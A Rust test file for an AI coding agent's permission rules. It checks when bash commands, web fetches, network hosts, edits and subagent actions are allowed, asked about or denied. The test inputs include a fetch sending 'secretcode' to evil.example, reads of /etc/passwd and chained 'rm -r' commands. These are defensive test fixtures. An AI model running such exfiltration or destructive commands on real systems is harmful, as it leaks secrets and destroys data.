#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
use super::*;
use crate::calls::uses::tests::subject;
use convert_client::converter::Converter;
use serde_json::json;
use std::{os::unix::fs::PermissionsExt as _, path::Path};

fn permissions(list: &[(&str, &str, Verdict)]) -> Permissions {
    let rule = |(permission, pattern, action): &(&str, &str, Verdict)| Rule {
        permission: (*permission).to_owned(),
        pattern: (*pattern).to_owned(),
        action: *action,
        is_approval: false,
    };
    Permissions::new(vec![Rules(list.iter().map(rule).collect())], FilesReaders::Anybody)
}

#[test]
fn a_person_is_asked_about_repetition_unless_a_rule_decides() {
    let rule = |permission, pattern, action| vec![(permission, pattern, action)];
    for (list, tool, want) in [
        (vec![], "bash", Verdict::Ask),
        (rule("bash", "*", Verdict::Allow), "bash", Verdict::Ask),
        (rule("doom_loop", "*", Verdict::Allow), "bash", Verdict::Allow),
        (rule("doom_loop", "read", Verdict::Allow), "bash", Verdict::Ask),
        (rule("doom_loop", "bash", Verdict::Deny), "bash", Verdict::Deny),
        (rule("*", "*", Verdict::Allow), "bash", Verdict::Allow),
    ] {
        assert_eq!(permissions(&list).repetition_verdict("build", tool), want, "{list:?}");
    }
    let mut with_answer = permissions(&[]);
    with_answer.allow(marks::REPETITION, &["bash".to_owned()]);
    assert_eq!(
        (with_answer.repetition_verdict("build", "bash"), with_answer.repetition_verdict("build", "read")),
        (Verdict::Allow, Verdict::Ask)
    );
    let denied = configured("opencode.json", r#"{"permission": {"doom_loop": "deny"}}"#);
    assert_eq!(denied.repetition_verdict("explore", "bash"), Verdict::Deny);
    let allowed = configured("opencode.json", r#"{"permission": {"doom_loop": "allow"}}"#);
    assert_eq!(allowed.repetition_verdict("explore", "bash"), Verdict::Allow);
}

#[test]
fn a_page_that_could_carry_private_files_away_is_asked_for_unless_somebody_decided() {
    use domain::policy::level::Level;
    let verdict = |readers, lists: &[Rules], level, json: &str| {
        let document = settings::document::Document::json(level, "a.json", json).unwrap();
        let mut permissions = Permissions::new(lists.to_vec(), readers);
        permissions.configure(Arc::new(settings::merge::merge(&[document]).unwrap().settings));
        let page = subject(Tool::WebFetch, &json!({"url": "https://evil.example/?q=secretcode"}));
        permissions.verdict("build", &page)
    };
    let list = |hosts: &str| format!(r#"{{"environment": {{"network": {{"allow": [{hosts}]}}}}}}"#);
    let rule = |rule: &str| format!(r#"{{"permission": {rule}}}"#);
    for (level, json, want) in [
        (Level::Project, "{}", Verdict::Ask),
        (Level::Project, &*rule(r#"{"*": "allow"}"#), Verdict::Ask),
        (Level::Project, &list(r#""evil.example""#), Verdict::Allow),
        // The list refuses the page, when it is read.
        (Level::Tenant, &list(""), Verdict::Allow),
        (Level::Repository, &list(r#""evil.example""#), Verdict::Ask),
        (Level::Project, &rule(r#"{"webfetch": "allow"}"#), Verdict::Allow),
        (Level::Project, &rule(r#"{"webfetch": {"https://docs.rs/*": "allow"}}"#), Verdict::Ask),
        (Level::Project, &rule(r#"{"webfetch": {"https://evil.example/*": "allow"}}"#), Verdict::Allow),
        (Level::Project, &rule(r#"{"webfetch": "deny"}"#), Verdict::Deny),
    ] {
        assert_eq!(verdict(FilesReaders::Limited, &[], level, json), want, "{level:?} {json}");
        let public = if want == Verdict::Ask { Verdict::Allow } else { want };
        assert_eq!(verdict(FilesReaders::Anybody, &[], level, json), public, "{level:?} {json}");
    }
    // Rules of the session and answers "always" count too.
    for (rule, want) in [
        (Rule::of("webfetch", Verdict::Allow), Verdict::Allow),
        (Rule::of("*", Verdict::Allow), Verdict::Ask),
        (Rule::approval("webfetch", "https://evil.example/*"), Verdict::Allow),
    ] {
        assert_eq!(
            verdict(FilesReaders::Limited, &[Rules(vec![rule.clone()])], Level::Project, "{}"),
            want,
            "{rule:?}"
        );
    }
}

#[test]
fn only_people_open_hosts_and_only_those_of_the_settings() {
    let level = |level, ask: &str| {
        let text = format!(
            r#"{{"permission": {{"*": "allow", "network": "allow"}},
            "environment": {{"network": {{"allow": ["pypi.org", "a.acme.dev"], "ask": [{ask}]}}}}}}"#
        );
        settings::document::Document::json(level, "a.json", &text).unwrap()
    };
    use domain::policy::level::Level;
    let documents =
        [level(Level::Project, r#""*.acme.dev", "c.org""#), level(Level::Repository, r#""*.acme.dev""#)];
    let mut permissions =
        Permissions::new(vec![Rules(vec![Rule::of("*", Verdict::Allow)])], FilesReaders::Anybody);
    permissions.configure(Arc::new(settings::merge::merge(&documents).unwrap().settings));
    let hosts = |hosts: &[&str]| subject(Tool::Network, &json!({"hosts": hosts.join(", "), "reason": "x"}));
    for (names, want) in [
        (&["b.acme.dev"][..], Verdict::Ask),
        (&["pypi.org", "B.acme.dev."], Verdict::Ask),
        // The call opens nothing, and its answer says why.
        (&["pypi.org"], Verdict::Allow),
        (&["b.acme.dev", "evil.com"], Verdict::Allow),
        (&["c.org"], Verdict::Allow),
        (&["*.acme.dev"], Verdict::Allow),
        (&["https://b.acme.dev"], Verdict::Allow),
        (&[], Verdict::Allow),
    ] {
        assert_eq!(permissions.verdict("build", &hosts(names)), want, "{names:?}");
        // A call that asks no person opens nothing.
        let opens = permissions.hosts_to_open(&json!({"hosts": names.join(",")}));
        assert_eq!(opens.is_empty(), want == Verdict::Allow, "{names:?}: {opens:?}");
        assert!(opens.iter().all(|host| host.as_str() == "b.acme.dev"), "{opens:?}");
    }
    let asked = permissions.use_to_ask("build", &hosts(&["B.acme.dev."])).unwrap();
    assert_eq!(
        (&asked.patterns, &asked.always),
        (&vec!["b.acme.dev".to_owned()], &vec!["b.acme.dev".to_owned()])
    );
    let mut child = Permissions::new(permissions.of_child("build", "general"), FilesReaders::Anybody);
    child.configure(Arc::clone(&permissions.settings));
    assert_eq!(child.verdict("general", &hosts(&["b.acme.dev"])), Verdict::Ask, "a subtask asks too");
    assert!(permissions.approved_hosts().is_empty());
    permissions.allow(asked.permission, &asked.always);
    assert_eq!(permissions.verdict("build", &hosts(&["b.acme.dev"])), Verdict::Allow);
    assert_eq!(permissions.verdict("build", &hosts(&["d.acme.dev"])), Verdict::Ask, "it is about one host");
    let approved: Vec<String> = permissions.approved_hosts().iter().map(ToString::to_string).collect();
    assert_eq!(approved, ["b.acme.dev"]);
    permissions.lists.push(Rules(vec![Rule::of("network", Verdict::Deny)]));
    assert_eq!(permissions.verdict("build", &hosts(&["d.acme.dev"])), Verdict::Deny);
}

#[test]
fn each_command_of_a_line_must_be_allowed() {
    let permissions = permissions(&[
        ("bash", "*", Verdict::Allow),
        ("bash", "git push *", Verdict::Ask),
        ("bash", "rm *", Verdict::Deny),
        ("external_directory", "*", Verdict::Ask),
    ]);
    for (command, want) in [
        ("git status && ls", Verdict::Allow),
        ("git push", Verdict::Ask),
        ("cd a; git push origin main", Verdict::Ask),
        ("git status; /bin/rm a", Verdict::Deny),
        ("bash -c 'rm a'", Verdict::Deny),
        ("rmdir a", Verdict::Allow),
        // What it runs is unclear: the strictest of all rules about bash counts.
        ("$TOOL a", Verdict::Deny),
        ("cat /etc/passwd", Verdict::Ask),
    ] {
        let verdict = permissions.verdict("build", &subject(Tool::Bash, &json!({"command": command})));
        assert_eq!(verdict, want, "{command}");
    }
    let tool_use = permissions
        .use_to_ask("build", &subject(Tool::Bash, &json!({"command": "cat /etc/passwd"})))
        .unwrap();
    assert_eq!(
        (tool_use.permission, &tool_use.patterns[..]),
        ("external_directory", &["/etc/*".to_owned()][..])
    );
}

/// The verdict on a call. `program` reads its shell commands.
fn judge(permissions: &Permissions, program: &Path, tool: Tool, input: &Value) -> Verdict {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let converter = Converter::new(program.to_owned());
    let tenant = domain::ids::TenantId(uuid::Uuid::nil());
    runtime.block_on(permissions.judge("build", converter.of(tenant), tool, input))
}

#[test]
fn shell_commands_are_read_only_if_a_rule_may_refuse_one() {
    let directory = tempfile::tempdir().unwrap();
    let (program, mark) = (directory.path().join("convert"), directory.path().join("started"));
    std::fs::write(&program, format!("#!/bin/sh\n: > '{}'\n", mark.display())).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    for (list, is_read) in [
        (&[][..], false),
        (&[("bash", "*", Verdict::Allow), ("bash", "git *", Verdict::Allow)], false),
        (&[("read", "*", Verdict::Deny), ("webfetch", "*", Verdict::Ask)], false),
        (&[("bash", "rm *", Verdict::Deny)], true),
        (&[("*", "*", Verdict::Ask), ("bash", "*", Verdict::Allow)], true),
        (&[("external_directory", "/etc/*", Verdict::Ask)], true),
    ] {
        judge(&permissions(list), &program, Tool::Bash, &json!({"command": "ls"}));
        assert_eq!(std::fs::remove_file(&mark).is_ok(), is_read, "{list:?}");
    }
}

#[test]
fn a_command_that_need_not_be_read_has_the_verdict_of_one_that_is() {
    let program = chassis::programs::find(convert_client::converter::PROGRAM).unwrap();
    let call = |command: &str| json!({"tool": "bash", "parameters": {"command": command}});
    let inputs = [
        (Tool::Bash, json!({"command": "ls; rm -r ../x"})),
        (Tool::Bash, json!({"command": "$X", "workdir": "/etc"})),
        (Tool::Read, json!({"filePath": "/etc/passwd"})),
        (Tool::Batch, json!({"tool_calls": [call("ls"), {"tool": "read", "parameters": {"filePath": "a"}}]})),
    ];
    for (tool, input) in inputs {
        let read = subject(tool, &input);
        for name in ["*", "bash", "external_directory", "read", "batch"] {
            for pattern in ["*", "rm *", "ls", "/etc/*", "a"] {
                for action in [Verdict::Allow, Verdict::Ask, Verdict::Deny] {
                    let permissions = permissions(&[(name, pattern, action)]);
                    let want = permissions.verdict("build", &read);
                    let rule = format!("{action:?} {name} {pattern}: {input}");
                    assert_eq!(judge(&permissions, &program, tool, &input), want, "{rule}");
                }
            }
        }
    }
}

#[test]
fn an_answer_always_covers_what_it_names() {
    let mut permissions = permissions(&[("bash", "*", Verdict::Ask)]);
    let tool_use = permissions
        .use_to_ask("build", &subject(Tool::Bash, &json!({"command": "git commit -m x"})))
        .unwrap();
    permissions.allow(tool_use.permission, &tool_use.always);
    for (command, want) in [
        ("git commit -m y", Verdict::Allow),
        ("git commit", Verdict::Allow),
        ("git commit && git push", Verdict::Ask),
        ("git push", Verdict::Ask),
    ] {
        let verdict = permissions.verdict("build", &subject(Tool::Bash, &json!({"command": command})));
        assert_eq!(verdict, want, "{command}");
    }
}

#[test]
fn a_person_is_asked_about_all_uses_of_one_permission() {
    let permissions = permissions(&[("bash", "*", Verdict::Ask), ("bash", "ls *", Verdict::Allow)]);
    let call = |command: &str| json!({"tool": "bash", "parameters": {"command": command}});
    let batch = json!({"tool_calls": [call("git status"), call("ls"), call("make"), call("make")]});
    let asked = permissions.use_to_ask("build", &subject(Tool::Batch, &batch)).unwrap();
    assert_eq!(asked.patterns, ["git status", "make"]);
    assert_eq!(asked.always.len(), 2, "{:?}", asked.always);
}

/// The model chooses the words of the first command.
#[test]
fn an_answer_always_contains_no_wildcard_that_the_model_wrote() {
    for command in ["*", "ec*o a", "npm run '*'", "$X a"] {
        let mut permissions =
            permissions(&[("bash", "*", Verdict::Ask), ("bash", "*secret*", Verdict::Deny)]);
        let tool_use =
            permissions.use_to_ask("build", &subject(Tool::Bash, &json!({"command": command}))).unwrap();
        permissions.allow(tool_use.permission, &tool_use.always);
        for other in ["touch a", "npm run build", "echo secret"] {
            let verdict = permissions.verdict("build", &subject(Tool::Bash, &json!({"command": other})));
            assert_ne!(verdict, Verdict::Allow, "{command:?} allowed {other:?}: {:?}", tool_use.always);
        }
    }
}

#[test]
fn a_rule_that_forbids_editing_forbids_writing() {
    let permissions = permissions(&[("edit", "*", Verdict::Deny)]);
    for tool in [Tool::Edit, Tool::Write] {
        assert_eq!(
            permissions.verdict("build", &subject(tool, &json!({"filePath": "/workspace/a"}))),
            Verdict::Deny
        );
    }
    assert!(permissions.hides("build")(Tool::Edit) && permissions.hides("build")(Tool::Write));
}

#[test]
fn only_the_plan_agent_may_end_planning() {
    let permissions = Permissions::default();
    for (agent, want) in [("plan", Verdict::Allow), ("build", Verdict::Deny), ("explore", Verdict::Deny)] {
        assert_eq!(permissions.verdict(agent, &subject(Tool::PlanExit, &json!({}))), want, "{agent}");
        assert_eq!(permissions.hides(agent)(Tool::PlanExit), want == Verdict::Deny, "{agent}");
    }
    assert!(permissions.hides("plan")(Tool::Write) && !permissions.hides("plan")(Tool::Bash));
    // Its subagents may change nothing either.
    let child = Permissions::new(permissions.of_child("plan", "explore"), FilesReaders::Anybody);
    let write = json!({"filePath": "/workspace/a"});
    assert_eq!(child.verdict("explore", &subject(Tool::Write, &write)), Verdict::Deny);
}

#[test]
fn a_prompt_switches_tools_off_by_name_permission_or_pattern() {
    let inner = json!({"tool_calls": [{"tool": "bash", "parameters": {"command": "true"}}]});
    for (switches, off, on) in [
        (vec![("bash", false)], vec![Tool::Bash], vec![Tool::Read]),
        (vec![("edit", false)], vec![Tool::Edit, Tool::Write, Tool::ApplyPatch], vec![Tool::Bash]),
        (vec![("*", false), ("write", true)], vec![Tool::Bash, Tool::Edit], vec![Tool::Write]),
        (vec![("bash", true)], vec![], vec![Tool::Bash]),
    ] {
        let tools: BTreeMap<String, bool> =
            switches.into_iter().map(|(name, on)| (name.to_owned(), on)).collect();
        let permissions = Permissions::default().of_prompt(Some(&tools));
        for tool in off {
            assert!(permissions.hides("build")(tool), "{tool:?} of {tools:?}");
            assert_eq!(
                permissions.verdict("build", &subject(tool, &json!({}))),
                Verdict::Deny,
                "{tool:?} of {tools:?}"
            );
        }
        for tool in on {
            assert!(!permissions.hides("build")(tool), "{tool:?} of {tools:?}");
        }
    }
    let no_bash = BTreeMap::from([("bash".to_owned(), false)]);
    let permissions = Permissions::default().of_prompt(Some(&no_bash));
    assert_eq!(
        permissions.verdict("build", &subject(Tool::Batch, &inner)),
        Verdict::Deny,
        "not by way of a batch"
    );
    let child = Permissions::new(permissions.of_child("build", "general"), FilesReaders::Anybody);
    assert_eq!(child.verdict("general", &subject(Tool::Bash, &json!({"command": "ls"}))), Verdict::Deny);
}

#[test]
fn a_child_has_no_to_do_list_unless_settings_give_it_one() {
    let settings = r#"{"agent": {
        "plain": {"mode": "subagent"},
        "lists": {"mode": "subagent", "permission": {"todowrite": "allow", "todoread": "allow"}}
    }}"#;
    let parent = configured("opencode.json", settings);
    for (child, is_hidden) in [("general", true), ("plain", true), ("lists", false)] {
        let mut permissions = configured("opencode.json", settings);
        permissions.lists = parent.of_child("build", child);
        for tool in [Tool::TodoRead, Tool::TodoWrite] {
            assert_eq!(permissions.hides(child)(tool), is_hidden, "{child} {tool:?}");
        }
    }
    assert!(!parent.hides("build")(Tool::TodoWrite));
}

fn configured(name: &str, json: &str) -> Permissions {
    let document =
        settings::document::Document::json(domain::policy::level::Level::Repository, name, json).unwrap();
    let mut permissions = Permissions::default();
    permissions.configure(Arc::new(settings::merge::merge(&[document]).unwrap().settings));
    permissions
}

#[test]
fn agents_of_a_repository_do_what_their_rules_leave_them() {
    let mut permissions = configured(
        "opencode.json",
        r#"{"permission": {"bash": {"*": "ask", "rm *": "deny"}},
            "agent": {"review": {"permission": {"edit": "deny"}, "mode": "subagent", "description": "reviews"},
                      "explore": {"disable": true}, "main": {"mode": "primary"},
                      "title": {"mode": "all", "permission": {"*": "allow"}}}}"#,
    );
    let bash = |permissions: &Permissions, agent: &str, command: &str| {
        permissions.verdict(agent, &subject(Tool::Bash, &json!({"command": command})))
    };
    let edit = |permissions: &Permissions, agent: &str| {
        permissions.verdict(agent, &subject(Tool::Write, &json!({"filePath": "/workspace/a"})))
    };
    assert_eq!((edit(&permissions, "review"), edit(&permissions, "build")), (Verdict::Deny, Verdict::Allow));
    assert!(permissions.hides("review")(Tool::Edit) && !permissions.hides("build")(Tool::Edit));
    for refused in ["nobody", "explore", "title"] {
        assert_eq!(edit(&permissions, refused), Verdict::Deny, "{refused}");
    }
    assert_eq!(
        (bash(&permissions, "build", "ls"), bash(&permissions, "review", "rm a")),
        (Verdict::Ask, Verdict::Deny)
    );
    let names = |mode| permissions.agents(mode).into_iter().map(|(name, _)| name).collect::<Vec<_>>();
    assert_eq!(names(Mode::Subagent), ["general", "review"]);
    assert_eq!(names(Mode::Primary), ["build", "plan", "general", "main"]);

    // A child of a reviewer may not edit either, whichever agent answers in it.
    let child = Permissions::new(permissions.of_child("review", "build"), FilesReaders::Anybody);
    assert_eq!(edit(&child, "build"), Verdict::Deny);

    let tool_use = permissions.use_to_ask("build", &subject(Tool::Bash, &json!({"command": "ls"}))).unwrap();
    permissions.allow(tool_use.permission, &tool_use.always);
    assert_eq!(
        (bash(&permissions, "build", "ls"), bash(&permissions, "build", "rm a")),
        (Verdict::Allow, Verdict::Deny)
    );
}
